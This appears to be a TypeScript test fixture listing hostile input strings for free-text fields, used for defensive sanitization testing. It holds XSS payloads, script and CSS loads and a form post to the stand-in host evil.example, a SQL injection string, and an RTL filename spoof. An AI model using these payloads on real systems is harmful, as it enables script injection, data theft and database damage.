/**
 * Text a hostile or merely unusual person might type into any free-text field: markup and
 * script payloads, dangerous URL schemes, entity and template tricks, bidi and invisible
 * characters, zalgo, emoji sequences, huge and unbroken strings, CSS and markdown. Every payload
 * that could run sets `window.__pwned`, so a test can tell that nothing ran.
 */

export interface HostileString {
  /** A short name for the test title. */
  label: string;
  value: string;
}

const PWN = 'window.__pwned=1';

export const HOSTILE_CORPUS: readonly HostileString[] = [
  { label: 'script tag', value: `<script>${PWN}</script>` },
  { label: 'script tag, upper case, with src', value: `<SCRIPT SRC=//evil.example/x.js>${PWN}</SCRIPT>` },
  { label: 'img onerror', value: `<img src=x onerror=${PWN}>` },
  { label: 'img onerror, quoted', value: `<img src="x" onerror="${PWN}">` },
  { label: 'svg onload', value: `<svg onload=${PWN}>` },
  { label: 'svg with nested script', value: `<svg><script>${PWN}</script></svg>` },
  { label: 'iframe srcdoc', value: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>` },
  { label: 'body onload', value: `<body onload=${PWN}>` },
  { label: 'details ontoggle', value: `<details open ontoggle=${PWN}>` },
  { label: 'attribute break-out', value: `" onmouseover="${PWN}" x="` },
  { label: 'single-quote break-out', value: `' autofocus onfocus='${PWN}` },
  { label: 'closing tags first', value: `</p></li></h3></article><img src=x onerror=${PWN}>` },
  { label: 'javascript: URL', value: `javascript:${PWN}` },
  { label: 'javascript: URL, mixed case and tab', value: `JaVa\tScRiPt:${PWN}` },
  { label: 'javascript: URL, entity-encoded', value: `&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${PWN}` },
  { label: 'javascript: URL, leading spaces and newline', value: `   \njavascript:${PWN}` },
  { label: 'anchor with javascript: href', value: `<a href="javascript:${PWN}">click me</a>` },
  { label: 'data: URL', value: `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+` },
  { label: 'vbscript: URL', value: `vbscript:msgbox("pwned")` },
  { label: 'escaped script entities', value: '&lt;script&gt;alert(1)&lt;/script&gt;' },
  { label: 'double-encoded entities', value: '&amp;lt;img src=x onerror=alert(1)&amp;gt;' },
  { label: 'numeric entity tag', value: `&#60;img src=x onerror=${PWN}&#62;` },
  { label: 'template literal', value: '${window.__pwned=1} `${alert(1)}` {{constructor.constructor("alert(1)")()}}' },
  { label: 'lit-looking marker', value: '<?lit$123$>{{}}<!--?lit$123$-->' },
  { label: 'html comment and CDATA', value: `<!-- <img src=x onerror=${PWN}> --><![CDATA[<script>${PWN}</script>]]>` },
  { label: 'right-to-left override', value: 'Invoice \u202Egpj.exe for Maya' },
  { label: 'bidi isolates and marks', value: '\u2067abc\u2069 \u200F\u061Cشكرا لك\u200E done' },
  { label: 'zero-width spaces and joiners', value: 'Lake\u200Bhouse\u200C de\u200Dposit\u2060\uFEFF' },
  { label: 'zalgo', value: 'Z̷̧̢̛̛̖̗̘̙̜̝̞̟̠̤̥̦̩̪̫̬̭̮̯̰̱̲̳̹̺̻̼ͅͅa̵̡̢̧̨̛̛̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱̲l̶̢̧̨̡̛̛̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯̰̱g̸̢̧̨̡̛̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮̯o̴̧̢̨̡̖̗̘̙̜̝̞̟̠̣̤̥̦̩̪̫̬̭̮' },
  { label: 'emoji ZWJ sequences and flags', value: '👩‍👩‍👧‍👦 🏳️‍🌈 🇺🇸🇯🇵🇳🇬 👍🏽 🧑🏿‍💻 ❤️‍🔥' },
  { label: 'astral and CJK text', value: '𝕲𝖔𝖆𝖑 目標を達成する 𠜎𠜱 목표' },
  { label: 'null-ish: null', value: 'null' },
  { label: 'null-ish: undefined', value: 'undefined' },
  { label: 'null-ish: NaN and [object Object]', value: 'NaN [object Object]' },
  { label: 'long word without spaces (119 chars)', value: 'Supercalifragilisticexpialidocious'.repeat(3) + 'x'.repeat(17) },
  { label: 'long word without spaces (1,900 chars)', value: 'W'.repeat(1900) },
  { label: 'long URL-like word', value: `https://example.com/${'path/'.repeat(60)}?q=${'a'.repeat(200)}` },
  { label: 'CSS injection', value: '</style><style>*{display:none !important}</style>' },
  { label: 'CSS expression and import', value: '<style>@import url(//evil.example/x.css);body{background:url("javascript:alert(1)")}</style>' },
  { label: 'markdown-ish', value: '# Heading\n**bold** _italic_ [link](javascript:alert(1)) ![img](x onerror=alert(1))\n- item\n```js\nalert(1)\n```' },
  { label: 'newlines, tabs and control characters', value: 'line one\nline two\r\n\tindented\u0007bell\u0000nul' },
  { label: 'object/embed/meta', value: `<object data="javascript:${PWN}"></object><embed src=x><meta http-equiv="refresh" content="0;url=javascript:${PWN}">` },
  { label: 'form and button hijack', value: '<form action="https://evil.example"><button>Save</button></form><input autofocus>' },
  { label: 'math/xlink payload', value: `<math><mtext><table><mglyph><style><img src=x onerror=${PWN}>` },
  { label: 'prototype keys', value: '__proto__ constructor prototype toString' },
  { label: 'SQL-ish', value: "Robert'); DROP TABLE goals;--" },
  { label: '100 KB string', value: 'A'.repeat(50 * 1024) + ' <img src=x onerror=window.__pwned=1> ' + 'B'.repeat(50 * 1024) },
];
